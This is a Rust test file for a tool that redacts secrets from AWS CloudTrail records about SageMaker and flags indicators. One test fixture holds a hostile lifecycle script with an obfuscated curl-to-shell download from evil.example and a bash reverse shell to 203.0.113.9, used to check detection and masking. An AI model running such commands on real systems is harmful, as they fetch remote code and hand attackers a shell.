//! Redaction, proven: secrets of every kind are planted in every place of example records, intact and damaged, and none
//! is in the document that comes out. With a folder of real records, every redaction made in them is printed.

mod planting;

use std::collections::BTreeMap;
use std::io::Read;
use std::path::{Path, PathBuf};
use std::sync::LazyLock;

use base64::Engine;
use base64::engine::general_purpose::{STANDARD, URL_SAFE};
use planting::{CodeForm, Planting, Wrapping, plant};
use proptest::prelude::*;
use proptest::sample::{Index, select};
use sagetrail::config::{RedactionConfig, Scope};
use sagetrail::document::Document;
use sagetrail::enrich::redact::{FingerprintKey, redact};
use sagetrail::enrich::{Enriched, Knowledge, Origin, enrich};
use sagetrail::record::Record;
use serde_json::{Value, json};
use time::macros::datetime;

fn knowledge(key: &str) -> Knowledge {
    let redaction = RedactionConfig { key: Some(key.into()), key_file: None };
    Knowledge {
        fingerprint_key: FingerprintKey::load(&redaction).unwrap(),
        ..Knowledge::built_in(Scope::All)
    }
}

static KNOWLEDGE: LazyLock<Knowledge> = LazyLock::new(|| knowledge("0123456789abcdef0123456789abcdef"));
static OTHER: LazyLock<Knowledge> = LazyLock::new(|| knowledge("fedcba9876543210fedcba9876543210"));

/// The example records of all rules and of the fixtures.
static RECORDS: LazyLock<Vec<Value>> = LazyLock::new(|| {
    let tests = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests");
    let parsed =
        |path: PathBuf| serde_json::from_str::<Value>(&std::fs::read_to_string(path).unwrap()).unwrap();
    let entries = |folder: PathBuf| std::fs::read_dir(folder).unwrap().map(|entry| entry.unwrap().path());
    let is_match = |path: &PathBuf| path.file_name().unwrap().to_string_lossy().starts_with("match-");
    let mut paths: Vec<PathBuf> = entries(tests.join("rules")).flat_map(entries).filter(is_match).collect();
    paths.sort();
    let mut records: Vec<Value> = paths.into_iter().map(parsed).collect();
    let mut files: Vec<PathBuf> = entries(tests.join("fixtures/src")).collect();
    files.sort();
    for file in files {
        records.extend(parsed(file)["Records"].as_array().unwrap().iter().cloned());
    }
    records
});

fn document_of(raw: &str, knowledge: &Knowledge) -> Document {
    let origin = Origin { path: "example", written_at: None, now: datetime!(2026-11-23 12:00 UTC) };
    match enrich(raw.as_bytes(), origin, knowledge) {
        Enriched::Selected { document, .. } | Enriched::Malformed(document) => document,
        Enriched::NotSelected => panic!("everything is selected"),
        Enriched::Panicked(document) => panic!("it panicked: {document:?}"),
    }
}

/// The secret itself, as JSON writes it, and the part of its base64 that does not depend on what stands around it.
fn traces(secret: &str) -> Vec<String> {
    let mut traces = vec![secret.to_owned(), json!(secret).to_string().trim_matches('"').to_owned()];
    for before in 0..3 {
        let bytes = [&b"   "[..before], secret.as_bytes()].concat();
        for engine in [STANDARD, URL_SAFE] {
            let whole = engine.encode(&bytes[..bytes.len() / 3 * 3]);
            traces.push(whole[4..].to_owned());
        }
    }
    traces.retain(|trace| trace.len() >= 8);
    traces
}

/// The value with every scalar replaced: what is left of it when only texts change.
fn shape(value: &Value) -> Value {
    match value {
        Value::Array(elements) => elements.iter().map(shape).collect(),
        Value::Object(members) => members.iter().map(|(name, value)| (name.clone(), shape(value))).collect(),
        _ => Value::Null,
    }
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 1000, failure_persistence: None, ..ProptestConfig::default() })]

    #[test]
    fn no_secret_that_is_planted_anywhere_is_in_the_document(
        record in any::<Index>(),
        planting in planting::planting(),
        form in select(vec![
            CodeForm::Base64, CodeForm::Gzip, CodeForm::Base64InBase64, CodeForm::Entrypoint, CodeForm::Words,
        ]),
        wrapping in select(vec![Wrapping::Plain, Wrapping::JsonText, Wrapping::JsonTextInJsonText]),
        at in any::<Index>(),
        damaged in any::<bool>(),
    ) {
        let mut record = record.get(&RECORDS).clone();
        let secret = plant(&mut record, &planting, form, wrapping, at);
        let mut raw = record.to_string();
        if damaged {
            raw.truncate(raw.len() - 1);
        }
        let document = document_of(&raw, &KNOWLEDGE);
        let source = std::str::from_utf8(&document.source).unwrap();
        for trace in traces(&secret) {
            prop_assert!(!source.contains(&trace), "{trace} is in {source}\nof {raw}");
            prop_assert!(!document.id.as_str().contains(&trace) && !document.index.as_str().contains(&trace));
        }
        let parsed: Value = serde_json::from_str(source).unwrap();
        if !damaged {
            let original: Value = serde_json::from_str(parsed["event"]["original"].as_str().unwrap()).unwrap();
            prop_assert_eq!(shape(&original), shape(&record));
        }
        let again = document_of(&raw, &KNOWLEDGE);
        prop_assert_eq!(&again.source, &document.source);
        // Base64 has a marker of its own, and so has the whole of a text under a suspect name.
        if matches!(planting, Planting::Member(..) | Planting::Variable(..)) {
            let marker = KNOWLEDGE.fingerprint_key.marker(&secret);
            prop_assert!(source.contains(&marker), "{marker} of {secret} is not in {source}");
            let other = document_of(&raw, &OTHER);
            prop_assert!(!std::str::from_utf8(&other.source).unwrap().contains(&marker));
        }
    }
}

#[test]
fn one_secret_has_one_marker_in_every_place_of_a_record() {
    let secret = "ghp_0123456789abcdefghijABCDEFGHIJ012345";
    let script = format!("#!/bin/sh\nexport GITHUB_TOKEN={secret}\n");
    let record = json!({
        "eventSource": "sagemaker.amazonaws.com", "eventName": "CreateTrainingJob", "errorMessage": format!("bad {secret}"),
        "requestParameters": {
            "environment": {"GITHUB_TOKEN": secret, "URL": format!("https://me:{secret}@git.example/r")},
            "algorithmSpecification": {"containerArguments": ["--token", secret]},
            "policy": json!({"password": secret}).to_string(),
            "onStart": [{"content": STANDARD.encode(&script)}],
        },
    });
    let document = document_of(&record.to_string(), &KNOWLEDGE);
    let source: Value = serde_json::from_slice(&document.source).unwrap();
    let marker = KNOWLEDGE.fingerprint_key.marker(secret);
    let parameters = &source["aws"]["cloudtrail"]["request_parameters"];
    for text in [
        &source["error"]["message"],
        &parameters["environment"]["GITHUB_TOKEN"],
        &parameters["environment"]["URL"],
        &parameters["algorithmSpecification"]["containerArguments"][1],
        &parameters["policy"],
        &source["sagemaker"]["lifecycle"]["script"][0],
        &source["sagemaker"]["lifecycle"]["script"][1],
        &source["event"]["original"],
    ] {
        assert!(text.as_str().unwrap().contains(&marker), "{text}");
    }
    assert_eq!(
        parameters["onStart"][0]["content"],
        KNOWLEDGE.fingerprint_key.marker(&STANDARD.encode(&script))
    );
}

#[test]
fn a_script_is_shown_with_its_indicators_and_without_its_secrets() {
    let inner = STANDARD.encode("curl -u me:hunter2 https://evil.example/x?token=abc | sh\n");
    let script =
        format!("#!/bin/sh\necho {inner} | base64 -d | sh\nbash -i >& /dev/tcp/203.0.113.9/4444 0>&1\n");
    let record = json!({
        "eventSource": "sagemaker.amazonaws.com", "eventName": "CreateNotebookInstanceLifecycleConfig",
        "sourceIPAddress": "198.51.100.7", "requestParameters": {"onStart": [{"content": STANDARD.encode(&script)}]},
    });
    let document = document_of(&record.to_string(), &KNOWLEDGE);
    let source: Value = serde_json::from_slice(&document.source).unwrap();
    let marker = |secret| KNOWLEDGE.fingerprint_key.marker(secret);
    assert_eq!(
        source["sagemaker"]["lifecycle"],
        json!({
            "hook": ["onStart"],
            "script": [
                script.replace(&inner, &marker(&inner)),
                format!("curl -u me:{} https://evil.example/x?token={} | sh\n", marker("hunter2"), marker("abc")),
            ],
            "indicators": ["https://evil.example/x", "203.0.113.9", "evil.example"],
        })
    );
    assert_eq!(source["related"], json!({"ip": ["198.51.100.7", "203.0.113.9"], "hosts": ["evil.example"]}));
}

#[test]
fn what_is_redacted_in_real_records_is_printed() {
    let beside = concat!(env!("CARGO_MANIFEST_DIR"), "/../shared/cloudtrail");
    let folder =
        std::env::var_os("SAGETRAIL_TEST_RECORDS").map_or_else(|| PathBuf::from(beside), PathBuf::from);
    let Ok(entries) = std::fs::read_dir(folder) else {
        println!("skipped: no folder of real CloudTrail records");
        return;
    };
    let mut redactions: BTreeMap<String, usize> = BTreeMap::new();
    let (mut records, mut without_hints) = (0, 0);
    for path in entries
        .map(|entry| entry.unwrap().path())
        .filter(|path| path.extension().is_some_and(|end| end == "gz"))
    {
        let mut text = String::new();
        flate2::read::MultiGzDecoder::new(std::fs::File::open(path).unwrap())
            .read_to_string(&mut text)
            .unwrap();
        let file: Value = serde_json::from_str(&text).unwrap();
        for record in file["Records"].as_array().unwrap() {
            let document = document_of(&record.to_string(), &KNOWLEDGE);
            let source: Value = serde_json::from_slice(&document.source).unwrap();
            let original: Value =
                serde_json::from_str(source["event"]["original"].as_str().unwrap()).unwrap();
            list_redactions(record, &original, "", &mut redactions);
            records += 1;
            let raw = record.to_string();
            let parsed = Record::parse(raw.as_bytes()).unwrap();
            let spent = allocation_counter::measure(|| {
                redact(raw.as_bytes(), &parsed, &KNOWLEDGE.fingerprint_key);
            });
            without_hints += usize::from(spent.count_total == 0);
        }
    }
    println!("{records} records, {without_hints} without a hint");
    for (redaction, times) in &redactions {
        assert!(
            !redaction.contains("HIDDEN_DUE_TO_SECURITY_REASONS ->") && !redaction.contains("* ->"),
            "{redaction}"
        );
        println!("{times} × {redaction}");
    }
}

fn list_redactions(before: &Value, after: &Value, path: &str, redactions: &mut BTreeMap<String, usize>) {
    match (before, after) {
        (Value::Object(before), Value::Object(after)) => {
            for (name, value) in before {
                list_redactions(value, &after[name], &format!("{path}.{name}"), redactions);
            }
        }
        (Value::Array(before), Value::Array(after)) => {
            for (before, after) in before.iter().zip(after) {
                list_redactions(before, after, path, redactions);
            }
        }
        (before, after) if before == after => {}
        (before, after) => *redactions.entry(format!("{path}: {before} -> {after}")).or_default() += 1,
    }
}

#[test]
fn a_record_without_hints_is_not_even_allocated_for() {
    let quiet = json!({
        "eventSource": "sagemaker.amazonaws.com", "eventName": "DescribeTrainingJob", "readOnly": true,
        "userIdentity": {"type": "IAMUser", "accessKeyId": "AKIDEXAMPLE", "userName": "alice"},
        "requestParameters": {"trainingJobName": "t1", "nextToken": "abc"}, "responseElements": null,
    })
    .to_string();
    let record = Record::parse(quiet.as_bytes()).unwrap();
    let key = &KNOWLEDGE.fingerprint_key;
    assert_eq!(redact(quiet.as_bytes(), &record, key), None);
    let spent = allocation_counter::measure(|| assert_eq!(redact(quiet.as_bytes(), &record, key), None));
    assert_eq!(spent.count_total, 0);
}
